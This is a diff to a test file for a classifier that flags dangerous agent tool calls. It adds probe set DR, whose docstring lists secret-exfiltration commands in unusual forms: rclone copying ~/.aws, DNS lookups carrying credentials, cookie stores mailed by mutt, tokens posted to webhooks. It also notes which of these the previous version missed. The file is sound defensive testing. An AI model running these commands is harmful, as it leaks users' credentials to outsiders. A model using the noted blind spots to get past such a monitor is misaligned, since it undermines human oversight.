@@ -157,6 +157,7 @@ PROBES_DN = Path(__file__).resolve().parent / "data" / "classifier_probes_dn.jso
 PROBES_DO = Path(__file__).resolve().parent / "data" / "classifier_probes_do.jsonl"
 PROBES_DP = Path(__file__).resolve().parent / "data" / "classifier_probes_dp.jsonl"
 PROBES_DQ = Path(__file__).resolve().parent / "data" / "classifier_probes_dq.jsonl"
+PROBES_DR = Path(__file__).resolve().parent / "data" / "classifier_probes_dr.jsonl"
 
 
 def _critical_recall(s: Score) -> float:
@@ -2299,6 +2300,37 @@ def test_probes_dq() -> None:
     _round_holds(*_worked_and_aside(PROBES_DQ, "probes DQ"), "dq", 12, 4)
 
 
+def test_probes_dr() -> None:
+    """Set DR (16 calls: secrets reaching outside parties in less common spellings — rclone given
+    as fields (`{"tool": "rclone", "subcommand": "copy", "src": "~/.aws", "dst": …}`), a
+    kubeconfig copied by `aws s3 cp` as an argv with `--acl public-read`, Git's stored
+    credentials in DNS names looked up by `drill`, a kubeconfig base64-piped into `openssl
+    s_client`, GPG secret subkeys attached by `swaks --attach -`, Firefox's cookie store mailed
+    by `mutt -a`, a GitLab token posted by `urllib.request` to a Discord webhook; aside: Go's
+    `http.Post` of Docker's auth file, Node's `fetch` of `process.env` to a paste site, an
+    `.env.production` force-added and pushed to a personal repository; with look-alikes: a
+    public key in a public gist, `man swaks`, credentials copied to an internal host, a
+    keychain password to the clipboard, `.env.example` posted to a paste site, the redacted
+    kubeconfig uploaded; 10 critical, 6 others; 4 aside). Labelled before running; run once
+    on the commit before (86867b7): 6 of 7 worked critical blocked (missed: rclone given as
+    fields; the `aws s3 cp` argv was blocked only for its public ACL, its upload not seen:
+    the option values after the destination were taken for it), none raised, 11 of 12 exact.
+    No label corrected. Handled: a transfer's ends given as fields (`src`/`source`,
+    `dst`/`dest`/`destination`…) put in the command line a program field stands for; options'
+    values after a copy's destination are not the destination (`--acl public-read`,
+    `--profile x`, `--exclude known_hosts`). Found by probing the theme's families beyond the
+    rows and handled too: a secret variable in a sink's URL or DNS name (`dig
+    $AWS_SECRET_ACCESS_KEY.x…`, `curl "https://x/?k=$TOKEN"`: the destination was compared in
+    its case, the variable names in lower case); an upload whose source is its input
+    (`rclone rcat`, `aws s3 cp - s3://…`, `scp /dev/stdin …`) fed by a pipe; Chromium's and
+    Safari's cookie stores as credential files; a connection whose host its constructor names
+    (`http.client.HTTPSConnection('x').request(…)`); secrets files decrypted and secret stores
+    read (`sops -d`, `ansible-vault view`, `chamber export`, `infisical export`, `berglas
+    access`). After: 7 of 7, none raised, 12 of 12 exact. The aside rows, run once after: 3
+    of 3 critical blocked, none raised, 4 of 4 exact."""
+    _round_holds(*_worked_and_aside(PROBES_DR, "probes DR"), "dr", 12, 4)
+
+
 # The rows kept aside were run once, when every round was done: 20 of 27 critical blocked
 # (J 7/7, K 4/5, L 2/4, M 1/3, N 2/2, O 1/3, P 2/2, Q 1/1) and one of the 2 look-alikes raised (Q:
 # `sqlite3 test.db 'DELETE FROM fixtures;'`) — about 0.74, the honest estimate for calls of
@@ -2419,6 +2451,7 @@ ASIDE = {
     "do": (1.0, 0),  # 0/3 when run once; the three families handled after
     "dp": (1.0, 0),
     "dq": (1.0, 0),  # 0/3 when run once; the three families handled after
+    "dr": (1.0, 0),  # 3/3 when run once
 }
 
 # (critical recall at least, non-critical calls raised to critical at most, risk exact at least)
